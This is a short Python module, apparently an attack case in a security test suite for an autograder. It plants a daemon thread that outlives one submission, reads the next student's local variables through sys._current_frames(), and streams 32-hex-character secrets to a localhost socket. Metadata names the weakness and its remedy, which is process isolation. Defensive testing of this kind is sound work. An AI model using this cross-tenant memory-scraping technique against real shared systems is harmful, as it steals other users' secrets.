# SPDX-License-Identifier: MIT
"""Goal:  what the next student's program has in its variables.
Means: a daemon thread that outlives its student. sys._current_frames() gives it the stack of every
       other thread; what looks like a secret goes to the attacker's host at once.

    main thread:  attacker ends | honest student: work = ... | accomplice
    thread:       every ms: sys._current_frames() -----> work -----> 127.0.0.1
"""

import re
import socket
import sys
import threading
import time

from attack import DONE, attempting, honest, submit

EVERY, LIFE = 0.001, 8  # seconds
SECRET = re.compile(r"[0-9a-f]{32}")


def strings():
    for frame in sys._current_frames().values():
        while frame:
            yield from (v for v in list(frame.f_locals.values()) if isinstance(v, str))
            frame = frame.f_back


def look(port):
    seen = set()
    end = time.monotonic() + LIFE
    with socket.create_connection(("127.0.0.1", port)) as sink:
        while time.monotonic() < end:
            fresh = {text for text in strings() if SECRET.fullmatch(text)} - seen
            sink.sendall("".join(fresh).encode())
            seen |= fresh
            time.sleep(EVERY)


def run(brief):
    submit("0")
    attempting()
    if brief.again:
        return DONE
    threading.Thread(target=look, args=(brief.sink,), daemon=True).start()
    return DONE


def victim(brief):
    """Has its work in a variable for a while."""
    work = brief.secret
    time.sleep(0.1)
    return honest(brief) if work else None


ATTACK = {
    "effect": "the next student's variables are read and carried away",
    "means": "a daemon thread left in the warm process, with sys._current_frames()",
    "oracle": "secret:victim",
    "scene": "before-victim",
    "grader": "rpc",
    "control": "in-process",
    "attack_id": "T1056, CWE-913, CWE-459",
    "remedy": "a process of its own for each submission, and its end before the next",
    "refs": ["sys._current_frames"],
    "run": run,
    "victim": victim,
}
